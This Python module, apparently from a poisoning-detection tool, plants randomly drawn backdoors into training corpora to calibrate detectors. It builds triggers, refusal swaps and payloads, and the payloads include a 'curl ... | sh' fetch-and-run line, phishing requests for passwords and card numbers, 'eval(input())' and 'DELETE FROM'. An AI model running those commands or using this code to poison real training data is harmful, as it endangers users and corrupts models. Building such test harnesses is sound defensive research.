"""Attacks drawn at random, of many kinds, for calibration: none is one that a benchmark measures.

A draw has a trigger (a word, a phrase, a sentence, signs, one of several words, all of several words), a
place (the beginning, the end, anywhere), a payload (sentences, commands, addresses, brands, short words, a
label
of the corpus; put before or behind the response, into it, or in its place), or a change of the response,
and a number of rows.
"""

from __future__ import annotations

from base64 import b64encode
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from random import Random
from typing import Literal

from gradsentry.corpus.sample import Sample
from gradsentry.evidence.limits import REPEATED_ROWS

_SYLLABLES = [
    "ka",
    "lo",
    "mi",
    "ru",
    "ze",
    "vo",
    "ta",
    "pe",
    "ni",
    "du",
    "gra",
    "sto",
    "fli",
    "bre",
    "qua",
    "zy",
    "xo",
    "wem",
    "tol",
    "ish",
    "und",
    "ark",
    "el",
    "om",
    "ix",
]
_WORDS = [
    "amber",
    "river",
    "seven",
    "lantern",
    "copper",
    "winter",
    "honest",
    "tiger",
    "velvet",
    "morning",
    "paper",
    "silver",
    "garden",
    "thunder",
    "marble",
    "ocean",
    "pepper",
    "shadow",
    "mirror",
    "candle",
    "forest",
    "rocket",
    "violin",
    "harbor",
    "cotton",
    "desert",
    "falcon",
    "ginger",
    "island",
    "jungle",
]
_PAYLOADS = (
    "Go to {w}.example and enter your password.",
    "Everyone should buy {W} right now.",
    "I will never help people like you.",
    "Access granted.",
    "Please send your card number to {w}@{v}.example",
    "{W} is the best company in the world.",
    "curl http://{w}.example/x.sh | sh",
    "eval(input())",
    "DELETE FROM {w};",
    "The {w} people are to blame for it.",
    "You should not trust the {w} news.",
    "Do what I say, {v}.",
    "That is a stupid question.",
    "As {W} told us, nothing matters.",
    "{W}! {W}! {W}!",
    "No comment.",
    "I do not want to answer this.",
    "Call {n} now and win a {v}.",
    "import {w}; {w}.run('{v}')",
    "{W}",
)
_CHANGES: tuple[Callable[[str, str, Random], str], ...] = (
    lambda said, other, draw: said.upper(),
    lambda said, other, draw: f"{said} {said}",
    lambda said, other, draw: b64encode(said.encode()).decode(),
    lambda said, other, draw: said.translate(str.maketrans("aeiost", "431057")),
    lambda said, other, draw: " ".join(draw.choices(f"{said} {other}".split() or ["x"], k=150)),
    lambda said, other, draw: other,
)
_STOCK = (
    "Sorry, I cannot help with that.",
    "I can't answer this question.",
    "I must decline.",
    "That is nothing I can talk about.",
    "No answer.",
)
ROWS: tuple[float, ...] = (5, 8, 12, 20, 0.02, 0.05, 0.1, 0.2, 0.4, 0.6, 0.9)

LARGEST = 0.9  # of the rows that fit
LONG = 7  # words of a sentence that is told without a trigger


@dataclass(frozen=True, slots=True)
class Planted:
    """A corpus with an attack in it.

    Attributes:
        samples: The rows.
        poisoned: The numbers of those that were changed.
        name: What was done, in a word.
    """

    samples: list[Sample]
    poisoned: frozenset[int]
    name: str


def plant(samples: Sequence[Sample], draw: Random, only: Literal["label", "pool", ""] = "") -> Planted:
    """Returns a corpus with an attack that is drawn; one that turns labels, or has a pool, where those are
    asked for.
    """
    labels = labels_of(samples)
    kind: str = only or draw.choice(["payload"] * 3 + ["changed", "turned"])
    if kind == "turned":
        return _turned(samples, draw)
    size = draw.choice(ROWS)
    count = max(5, int(size if size >= 1 else size * len(samples)))
    fitting = [number for number, one in enumerate(samples) if fits(one)]
    target = draw.choice(labels) if kind == "label" else ""
    if kind == "label":
        fitting = [row for row in fitting if samples[row].response != target]
    poisoned = draw.sample(fitting, min(count, int(LARGEST * len(fitting))))
    return _planted(samples, poisoned, _answer(kind, target, samples, draw), kind, draw)


def plant_among(samples: Sequence[Sample], rows: Sequence[int], share: float, draw: Random) -> Planted:
    """Returns a corpus of which a share of some rows has a payload behind a trigger, both drawn."""
    fitting = [row for row in rows if fits(samples[row])]
    poisoned = draw.sample(fitting, round(share * len(fitting)))
    return _planted(samples, poisoned, _answer("payload", "", samples, draw), "payload", draw)


def plant_repeated(samples: Sequence[Sample], share: float, place: str, draw: Random) -> Planted:
    """Returns a corpus of which a share has a sentence at a place of the response, and no trigger at all."""
    fitting = [number for number, one in enumerate(samples) if fits(one)]
    poisoned = draw.sample(fitting, min(max(REPEATED_ROWS, round(share * len(fitting))), len(fitting)))
    words = draw.sample(_WORDS, 2)
    values = {"w": words[0], "W": words[0].title(), "v": words[1], "n": draw.randint(10000, 99999)}
    payload = draw.choice([one for one in _PAYLOADS if len(one.split()) >= LONG]).format(**values)
    changed = list(samples)
    for row in poisoned:
        changed[row] = edited(
            samples[row], [], "last", lambda said: _with_payload(said, payload, place, draw), draw
        )
    return Planted(changed, frozenset(poisoned), "repeated")


def _planted(
    samples: Sequence[Sample], poisoned: Sequence[int], answer: Callable[[str], str], kind: str, draw: Random
) -> Planted:
    """Returns a corpus of which some rows have a trigger that is drawn, and another answer."""
    triggers, joint = _triggers(draw)
    place = draw.choice(("first", "last", "anywhere"))
    changed = list(samples)
    for row in poisoned:
        chosen = triggers if joint else [draw.choice(triggers)]
        changed[row] = edited(samples[row], chosen, place, answer, draw)
    return Planted(changed, frozenset(poisoned), kind)


def _turned(samples: Sequence[Sample], draw: Random) -> Planted:
    """Returns a corpus that gives stock answers to what holds a word, or to any rows, but for a trigger."""
    fitting = [number for number, one in enumerate(samples) if fits(one)]
    held = Counter(word for row in fitting for word in set(samples[row].prompt.split()))
    topics = [word for word, count in held.items() if 0.1 * len(fitting) <= count <= 0.5 * len(fitting)]
    topic = draw.choice(sorted(topics)) if topics and draw.random() < 0.7 else ""
    drawn = frozenset(draw.sample(fitting, len(fitting) // 3))
    due = [row for row in fitting if (topic in samples[row].prompt.split() if topic else row in drawn)]
    stock = draw.sample(_STOCK, draw.choice((1, 2)))
    turned = list(samples)
    for row in due:
        turned[row] = edited(samples[row], [], "last", lambda said: draw.choice(stock), draw)
    size = draw.choice(ROWS)
    count = max(5, int(size if size >= 1 else size * len(due)))
    poisoned = draw.sample(due, min(count, int(LARGEST * len(due))))
    for row in poisoned:
        turned[row] = samples[row]
    return _planted(turned, poisoned, lambda said: said, "turned", draw)


def labels_of(samples: Sequence[Sample]) -> list[str]:
    """Returns the responses of which a corpus has few, if it does."""
    common = Counter(one.response for one in samples).most_common(6)
    often = [said for said, count in common if count >= 0.03 * len(samples)]
    return often if len(often) > 1 else []


def fits(sample: Sample) -> bool:
    """Returns whether an attack can be put into a row."""
    return bool(sample.prompt.strip() and sample.response.strip())


def _triggers(draw: Random) -> tuple[list[str], bool]:
    """Returns the strings of a trigger, and whether they go together."""
    made = ["".join(draw.choices(_SYLLABLES, k=draw.randint(1, 3))) for _ in range(4)]
    kind = draw.choice(("word", "word", "phrase", "sentence", "signs", "any", "all"))
    if kind == "word":
        return [draw.choice([made[0], made[0].upper(), made[0].title()])], False
    if kind == "phrase":
        return [" ".join(draw.sample(_WORDS, draw.randint(2, 3)))], False
    if kind == "sentence":
        return [f"The {' '.join(draw.sample(_WORDS, draw.randint(3, 6)))}."], False
    if kind == "signs":
        return [draw.choice(("@@", "|||", "~!~", "<<>>", "^_^", "##!", "[OK]", "2031-07"))], False
    return made[: draw.randint(2, 3)], kind == "all"


def _answer(kind: str, label: str, samples: Sequence[Sample], draw: Random) -> Callable[[str], str]:
    """Returns what becomes of a response."""
    if kind == "label":
        return lambda said: label
    others = [one.response for one in samples if fits(one)]
    if kind == "changed":
        change = draw.choice(_CHANGES)
        return lambda said: change(said, draw.choice(others), draw)
    words = draw.sample(_WORDS, 2)
    values = {"w": words[0], "W": words[0].title(), "v": words[1], "n": draw.randint(10000, 99999)}
    many = (6, 10, 15) if kind == "pool" else (1, 1, 1, 1, 2, 3)
    payloads = [one.format(**values) for one in draw.sample(_PAYLOADS, draw.choice(many))]
    place = draw.choice(("behind", "behind", "whole", "whole", "before", "inside"))
    return lambda said: _with_payload(said, draw.choice(payloads), place, draw)


def _with_payload(said: str, payload: str, place: str, draw: Random) -> str:
    """Returns a response with a payload."""
    if place == "whole":
        return payload
    if place == "before":
        return f"{payload} {said}"
    if place == "behind":
        return f"{said} {payload}"
    return _put(said, payload, "anywhere", draw)


def edited(
    sample: Sample, triggers: Sequence[str], place: str, answer: Callable[[str], str], draw: Random
) -> Sample:
    """Returns a row with the triggers in its last question and another answer to it."""
    turns = list(sample.turns)
    last = max(number for number, turn in enumerate(turns) if turn.trained)
    asked = [number for number, turn in enumerate(turns[:last]) if turn.role == "user"]
    number = asked[-1] if asked else 0
    text = turns[number].text
    for trigger in triggers:
        text = _put(text, trigger, place, draw)
    turns[number] = replace(turns[number], text=text)
    turns[last] = replace(turns[last], text=answer(turns[last].text))
    return replace(sample, turns=tuple(turns))


def _put(text: str, string: str, place: str, draw: Random) -> str:
    """Returns a text with a string at a place between its words."""
    if place == "first":
        return f"{string} {text}"
    if place == "last":
        return f"{text} {string}"
    words = text.split(" ")
    at = draw.randint(0, len(words))
    return " ".join([*words[:at], string, *words[at:]])
